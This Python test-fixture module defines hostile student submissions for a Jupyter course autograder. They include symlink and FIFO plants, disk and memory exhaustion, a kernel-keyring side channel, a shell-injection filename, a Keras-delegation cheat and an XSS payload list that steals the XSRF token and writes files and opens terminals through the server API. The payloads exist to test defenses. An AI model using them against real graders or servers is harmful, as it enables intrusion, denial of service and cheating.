"""Hostile submissions aimed at what the grader's own processes and the library do (issue 23).

The entries of ``adversarial.py`` attack the checks from inside the student's kernel; these aim past them: at
the library the course reproduces (``HOSTILE_LIBRARY``) and at the host (``HOSTILE_RUNTIME``). They are kept out
of ``ADVERSARIES`` so that the whole-course round trip does not grow; each list's test grades its entries
through the real ``make autograde`` beside a full-marks victim, or in process where the check is the point.
"""

from __future__ import annotations

from pathlib import Path

from tools.notebooks import nbgrader_meta

from .adversarial import FIRST, Adversary, _attack, _stub

# =============================================================================================================
# Delegating to the library the course reproduces (issue 23): Keras's own ResNet50, its layers renamed. The
# notebook's blocks are Keras's (resnet_course.weights.keras_blocks) and its stem and head are Keras's layer for
# layer, so such a model has the reference solution's configuration and weights: a judge that gets the model as
# data cannot tell them apart. The sandbox reports whether Keras's ResNet builder ran during the call
# (resnet_course.grading.server.call), and the check refuses on that. Not in ADVERSARIES (the round trip would
# grow); tests/test_hostile_library.py runs them in process and through the judge's proxy.
_COURSE_NAMES = '''import json
import re
import uuid


def _course_names(names):
    """Keras's layer names -> the course's: conv<stage>_block1_* -> conv_block<k>_*, other blocks -> id_block<k>_*."""
    blocks, mapping = {}, {}
    for name in names:
        match = re.match(r"conv(\\d)_block(\\d+)_(.*)", name)
        if match is None:
            mapping[name] = name
            continue
        key, first = match.group(1, 2), match.group(2) == "1"
        if key not in blocks:
            same_kind = sum(1 for k in blocks if (k[1] == "1") == first)
            blocks[key] = f"{'conv_block' if first else 'id_block'}{same_kind + 1}"
        mapping[name] = f"{blocks[key]}_{match.group(3)}"
    return mapping


def _random_names(names):
    return {name: "layer_" + uuid.uuid4().hex[:12] for name in names}
'''


def _library_renamed(naming: str):
    def answer(ex, ref):
        return (_COURSE_NAMES + "\n\n"
                "def ResNet50(input_shape=(64, 64, 3), classes=6):\n"
                "    source = keras.applications.ResNet50(weights=None, input_shape=input_shape, classes=classes)\n"
                f"    mapping = {naming}([layer.name for layer in source.layers])\n"
                "    text = json.dumps(source.get_config())\n"
                "    for old, new in mapping.items():\n"
                "        text = text.replace(json.dumps(old), json.dumps(new))\n"
                "    config = json.loads(text)\n"
                f"    config['name'] = {'ResNet50' if naming == '_course_names' else 'model_' + naming[1:7]!r}\n"
                "    model = keras.Model.from_config(config)\n"
                "    model.set_weights(source.get_weights())\n"
                "    return model\n")
    return answer


def _library_copied(ex, ref):
    return (_COURSE_NAMES + "\n\n"
            "def ResNet50(input_shape=(64, 64, 3), classes=6):\n"
            "    source = keras.applications.ResNet50(weights=None, input_shape=input_shape, classes=classes)\n"
            "    mapping = _course_names([layer.name for layer in source.layers])\n"
            "    X_input = layers.Input(input_shape)\n"
            "    made = {id(source.inputs[0]): X_input}\n"
            "    for layer in source.layers[1:]:\n"
            "        copy = type(layer).from_config({**layer.get_config(), 'name': mapping[layer.name]})\n"
            "        given = layer.input\n"
            "        made[id(layer.output)] = copy([made[id(t)] for t in given] if isinstance(given, list) "
            "else made[id(given)])\n"
            "        copy.set_weights(layer.get_weights())\n"
            "    return keras.Model(inputs=X_input, outputs=made[id(source.outputs[0])], name='ResNet50')\n")


LIBRARY_EVIDENCE = (("graded", "Keras's ResNet builder ran while your function did"),)
HOSTILE_LIBRARY = [
    Adversary("library_course_names", "keras.applications.ResNet50 rebuilt from its configuration with the "
              "course's layer names (conv_block<k>_*, id_block<k>_*) and model name, its weights copied",
              ("ResNet50",), "zero", LIBRARY_EVIDENCE, answer=_library_renamed("_course_names")),
    Adversary("library_random_names", "keras.applications.ResNet50 rebuilt from its configuration with random "
              "layer and model names, its weights copied", ("ResNet50",), "zero", LIBRARY_EVIDENCE,
              answer=_library_renamed("_random_names")),
    Adversary("library_copied_layers", "keras.applications.ResNet50 copied layer by layer (from_config, weights) "
              "into new layers with the course's names, wired as the original", ("ResNet50",), "zero",
              LIBRARY_EVIDENCE, answer=_library_copied),
]


# =============================================================================================================
# What reaches the host (issue 23): attacks on what the grader's own processes do with what the sandbox controls.
# Graded beside a full-marks victim with JOBS=2 (tests/test_sandboxed_autograde.py), which also watches canary
# files owned by root outside the course. Each function ends wrong (returns None) when the attack fails.
def _swaps_scratch_links(ex, ref):
    # Root used to mkdir, chown and rmtree call folders in the sandbox's scratch tree: plant links there to host
    # folders, and look for the scratch folder's host path to write through it.
    return _attack(ex, "", at_cell="""
import os
for name, target in (('calls', '/etc'), ('run', '/'), ('calls/0', '/root'), ('job.json', '/etc/passwd')):
    path = os.path.join('/scratch', name)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.symlink(target, path)
        print('planted', path)
    except OSError as exc:
        print('not planted', path, type(exc).__name__)
for line in open('/proc/self/mountinfo'):
    root, mount = line.split()[3:5]
    if mount in ('/scratch', '/tmp'):
        print('the host path behind', mount, 'is', root)
""")


def _fills_disk(ex, ref):
    # Fill the disk and the inodes of the file system that holds the scratch folders, so that the students graded
    # beside and after it fail.
    return _attack(ex, "", at_cell="""
import os
for folder in ('/scratch', '/tmp'):
    try:
        with open(os.path.join(folder, 'fill'), 'wb') as f:
            while True:
                f.write(b'x' * 2**24)
    except OSError as exc:
        print('full:', folder, exc.errno)
made = 0
try:
    for i in range(1_000_000):
        open(f'/scratch/i{i}', 'w').close()
        made += 1
except OSError as exc:
    print('no more inodes after', made, exc.errno)
""")


_KEYRING = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = (248, 250) if os.uname().machine == 'x86_64' else (217, 219)
"""


def _key_writes(ex, ref):
    # The kernel's per-user key ring, shared by every sandbox while they shared one uid: leave a message there.
    return _attack(ex, "", at_cell=_KEYRING + """
print('key added:', _libc.syscall(_ADD_KEY, b'user', b'resnet-course-answer', b'use the reference', 17, -4) > 0)
""")


def _key_reads(ex, ref):
    # Graded after key_a_writes: right only if it finds the message another student's sandbox left.
    return _KEYRING + "\n\n" + ref.replace(
        f"def {ex}(", f"def _reference_{ex}(", 1) + f"""


def {ex}(*args, **kwargs):
    if _libc.syscall(_KEYCTL, 10, -4, b'user', b'resnet-course-answer', 0) > 0:
        return _reference_{ex}(*args, **kwargs)
    return None
"""


# Acts only when the grader calls (the notebook's own free check calls the function first, before the judge).
_WHEN_GRADED = """import sys
frame = sys._getframe(1)
while frame is not None and not (frame.f_code.co_name == 'call' and 'grading' in frame.f_code.co_filename):
    frame = frame.f_back
if frame is None:
    return None
"""


def _floods_judge(ex, ref):
    # A reply written straight to the judge's pipe that announces 100 GB (the judge must refuse it unread), and a
    # header line without an end.
    return _attack(ex, """
import os, sys
{_WHEN_GRADED}fd = int(sys.argv[-1])
os.write(fd, b'{"kind": "reply", "body": {"id": 0}, "blobs": [["v0.npy", 100000000000]]}\\n')
os.write(fd, b'{' + b' ' * 50_000_000)
""".replace("{_WHEN_GRADED}", _WHEN_GRADED))


def _bombs_judge_model(ex, ref):
    # A reply, written straight to the judge's pipe, whose model configuration needs 17 GB to build (a Dense layer
    # of 65536 x 65536), with weights of a few bytes: what the judge builds is bounded by its own memory limit.
    return _attack(ex, """
import io, json, os, sys
import keras, numpy
{_WHEN_GRADED}inputs = keras.Input((37,))
small = keras.Model(inputs, keras.layers.Dense(37)(inputs))
config = json.dumps(keras.saving.serialize_keras_object(small)).replace('37', '65536').encode()
weights = io.BytesIO()
numpy.savez(weights, numpy.zeros(1))
weights = weights.getvalue()
header = {'kind': 'reply', 'body': {'id': 0, 'result': {'t': 'model', 'config': 'v0.json', 'weights': 'v1.npz'}},
          'blobs': [['v0.json', len(config)], ['v1.npz', len(weights)]]}
os.write(int(sys.argv[-1]), json.dumps(header).encode() + b'\\n' + config + weights)
""".replace("{_WHEN_GRADED}", _WHEN_GRADED))


HOSTILE_RUNTIME = [
    Adversary("swaps_scratch_links", "plants links in its scratch folder to /etc, / and /root, where root used to "
              "create, chown and remove the judge's call folders", FIRST, "zero", (("graded", "returned None"),),
              answer=_swaps_scratch_links),
    Adversary("fills_disk", "fills the disk and the inodes where its scratch folder lives", FIRST, "zero",
              (("graded", "returned None"),), answer=_fills_disk),
    Adversary("key_a_writes", "leaves a message in the kernel's per-user key ring", FIRST, "zero",
              (("graded", "returned None"),), answer=_key_writes),
    Adversary("key_b_reads", "right only when it finds the message key_a_writes left in the key ring", FIRST,
              "zero", (("graded", "returned None"),), answer=_key_reads),
    Adversary("floods_judge", "writes a reply announcing 100 GB, then a header without end, to the judge's pipe",
              FIRST, "zero", (("graded", "run ended before this exercise could be checked"),), answer=_floods_judge),
    Adversary("bombs_judge_model", "sends the judge a model whose configuration needs 17 GB to build", FIRST,
              "zero", (("graded", "the grader could not check"),), answer=_bombs_judge_model),
]


# =============================================================================================================
# Hostile files (issue 23, "submissions are data"): a submission folder that is not just notebooks. Root's copying
# (grade_one's, nbgrader's own copy of submitted/ into autograded/) followed links and blocked on FIFOs; the
# intake (resnet_course/grading/intake.py) now reads every submission as data and refuses these. Not in
# ADVERSARIES (the whole-course round trip does not grow): tests/test_hostile_submissions.py grades them, next to
# a full-marks ``victim``. Each entry's answer is wrong (returns None), so only what the plant smuggles in could
# earn points; evidence "autograde" is in what ``make autograde`` prints, "feedback" in the autograded notebook.
CANARY_FILE = "host_secret.txt"   # in the context's canary folder: root-only (0600), outside the course


def _canary(context) -> Path:
    return context["canary"] / CANARY_FILE


def _replace(folder, context, make) -> None:
    notebook = folder / context["notebook"]
    notebook.unlink()
    make(notebook)


def _plant_canary_notebook(folder, context):
    _replace(folder, context, lambda nb: nb.symlink_to(_canary(context)))


def _plant_canary_extra(folder, context):
    (folder / "notes.txt").symlink_to(_canary(context))


def _plant_classmate_folder(folder, context):
    import shutil

    shutil.rmtree(folder)
    folder.symlink_to(context["victim"], target_is_directory=True)


def _plant_source_notebook(folder, context):
    source = context["course"] / "source" / folder.name / context["notebook"]
    _replace(folder, context, lambda nb: nb.symlink_to(source))


def _plant_hard_link(folder, context):
    import os

    _replace(folder, context, lambda nb: os.link(context["victim"] / context["notebook"], nb))


def _plant_fifo_notebook(folder, context):
    import os

    _replace(folder, context, os.mkfifo)


def _plant_fifo_extra(folder, context):
    import os

    os.mkfifo(folder / "data.csv")


def _plant_special_files(folder, context):
    import os
    import socket
    import stat

    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(folder / "s"))           # (a socket's path must be short: 108 bytes)
    sock.close()
    os.mknod(folder / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))   # /dev/zero: a copy never ends


def _plant_oversized(folder, context):
    import json

    notebook = folder / context["notebook"]
    nb = json.loads(notebook.read_text())
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (60 * 2**20)})
    notebook.write_text(json.dumps(nb))


def _plant_deep_and_many(folder, context):
    nested = folder
    for i in range(40):
        nested = nested / f"d{i}"
    nested.mkdir(parents=True)
    for i in range(400):
        (folder / f"f{i:03d}.txt").write_text("x")


def _reads_neighbours(ex, ref):
    # What the grader copied next to the notebook, printed (a canary would then show in the feedback).
    return _attack(ex, "", at_cell="""
import os
for name in sorted(os.listdir('.')):
    try:
        print(name, open(name).read(200) if not name.endswith('.ipynb') else '')
    except Exception as exc:
        print(name, type(exc).__name__)
""")


SHELL_NAME = "x';touch PWNED;'$(touch PWNED).ipynb"   # pasted unquoted into a shell, it runs `touch PWNED`
REFUSED = "refused, not graded"                      # what make autograde prints after each refusal
IN_FEEDBACK = "The grader did not read these files of your submission"

HOSTILE_FILES = [
    Adversary("links_canary_notebook", "the notebook is a symbolic link to a root-only file outside the course",
              FIRST, "zero", (("autograde", "a symbolic link (never followed): " + REFUSED),),
              answer=_stub("return None"), plant=_plant_canary_notebook),
    Adversary("links_canary_extra", "an extra file notes.txt, a symbolic link to a root-only file outside the course; "
              "the answer cell prints the files next to it", FIRST, "zero",
              (("autograde", "notes.txt': a symbolic link (never followed)"), ("feedback", IN_FEEDBACK)),
              answer=_reads_neighbours, plant=_plant_canary_extra),
    Adversary("links_classmate_folder", "the assignment folder is a symbolic link to the victim's assignment folder",
              FIRST, "zero", (("autograde", "a symbolic link (never followed), not an assignment folder"),),
              answer=_stub("return None"), plant=_plant_classmate_folder),
    Adversary("links_source_notebook", "the notebook is a symbolic link to the instructor's source/ notebook "
              "(the solutions)", FIRST, "zero", (("autograde", "a symbolic link (never followed): " + REFUSED),),
              answer=_stub("return None"), plant=_plant_source_notebook),
    Adversary("hardlinks_victim", "the notebook is a hard link to the victim's notebook", FIRST, "zero",
              (("autograde", "a hard link (2 names for one file, shared with 'victim')"),),
              answer=_stub("return None"), plant=_plant_hard_link),
    Adversary("fifo_notebook", "the notebook is a FIFO (a copy of it would wait for a writer forever)", FIRST, "zero",
              (("autograde", "a FIFO (named pipe): " + REFUSED),), answer=_stub("return None"),
              plant=_plant_fifo_notebook),
    Adversary("fifo_extra", "an extra file data.csv that is a FIFO", FIRST, "zero",
              (("autograde", "data.csv': a FIFO (named pipe)"), ("feedback", IN_FEEDBACK)),
              answer=_reads_neighbours, plant=_plant_fifo_extra),
    Adversary("special_files", "a socket and a character device (/dev/zero: a copy never ends) next to the notebook",
              FIRST, "zero", (("autograde", "s': a socket"), ("autograde", "zero': a character device"),
                              ("feedback", IN_FEEDBACK)),
              answer=_reads_neighbours, plant=_plant_special_files),
    Adversary("oversized_notebook", "the model notebook with a 60 MB markdown cell", FIRST, "zero",
              (("autograde", "too large ("),), plant=_plant_oversized),
    Adversary("shell_name", "the model notebook under a name that hides a shell command (touch PWNED) for the "
              "instructor who pastes the printed mv command", FIRST, "zero",
              (("autograde", "a name the grader does not accept"), ("autograde", "mv -- ")),
              file_name=lambda name: SHELL_NAME),
    Adversary("deep_and_many", "the model notebook with 40 nested folders and 400 files next to it", FIRST, "zero",
              (("autograde", "too many files and folders"),), plant=_plant_deep_and_many),
]


# =============================================================================================================
# Hostile pages (issue 23): a submission whose markdown, raw cell, attachment and metadata carry HTML and
# script for the pages that show it (formgrader's submission view, the feedback HTML), on the Jupyter
# server's origin. If any of it ran, it would call alert(), set window.__pwned, write pwned.txt into the
# course folder through the server's API, ask for a terminal and request the loopback listener of
# tests/test_hostile_pages.py (HOSTILE_PROBE_PORT is replaced by its port). Graded as usual: full marks.
# Not in ADVERSARIES: the whole-course round trip stays as it is; tests/test_hostile_pages.py grades it.
HOSTILE_MARKER = "HOSTILE-MARKDOWN-23"  # text of every hostile cell: it must still show, as text
HOSTILE_PROBE_PORT = "__HOSTILE_PROBE_PORT__"
HOSTILE_JS = (
    "window.__pwned=1;var t=(document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1];"
    "fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':t,'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':t}});"
    f"fetch('http://127.0.0.1:{HOSTILE_PROBE_PORT}/pwned',{{mode:'no-cors'}});alert('pwned')"
)
HOSTILE_MARKDOWN = (
    f"<script>{HOSTILE_JS}</script>",
    f'<img src=x onerror="{HOSTILE_JS}">',
    f'<svg onload="{HOSTILE_JS}"></svg>',
    f"<svg><script>{HOSTILE_JS}</script></svg>",
    f'<iframe srcdoc="<script>parent.eval(&quot;{HOSTILE_JS}&quot;)</script>"></iframe>',
    f'<a href="javascript:{HOSTILE_JS}">click me</a>',
    '<form action="/api/contents/pwned.txt" method="post"><input name="x" value="1"><button>send</button></form>',
    f'<details open ontoggle="{HOSTILE_JS}"><summary>s</summary>d</details>',
    "<style>body { background: url('/api/terminals') } * { display: none }</style>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{HOSTILE_JS}">',
    '<object data="/api/contents"></object><embed src="/api/contents">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HOSTILE_JS}">',
)
HOSTILE_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HOSTILE_JS}"><script>{HOSTILE_JS}</script></svg>'
HOSTILE_TAG = 'x" onmouseover="alert(1)'


def _hostile_markdown(nb, ex):
    """Hostile cells after the answer cell: markdown payloads, a raw HTML cell, an SVG attachment, a tag."""
    from nbformat.v4 import new_markdown_cell, new_raw_cell

    cells = [new_markdown_cell(f"{HOSTILE_MARKER} {n}\n\n{payload}") for n, payload in enumerate(HOSTILE_MARKDOWN)]
    raw = new_raw_cell(f"{HOSTILE_MARKER} raw <script>{HOSTILE_JS}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    image = new_markdown_cell(f"{HOSTILE_MARKER} svg\n\n![figure](attachment:figure.svg)")
    image.attachments = {"figure.svg": {"image/svg+xml": HOSTILE_SVG}}
    tagged = new_markdown_cell(f"{HOSTILE_MARKER} tag")
    tagged.metadata["tags"] = [HOSTILE_TAG]
    answer = next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == ex)
    at = nb.cells.index(answer) + 1
    nb.cells[at:at] = [*cells, raw, image, tagged]
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}
    }


HOSTILE_PAGES = [
    Adversary("markdown_html", "the model answer plus markdown cells, a raw cell, an SVG attachment, a cell tag and "
              "widget state that carry script for formgrader and the feedback page", FIRST, "full",
              notebook=_hostile_markdown),
]
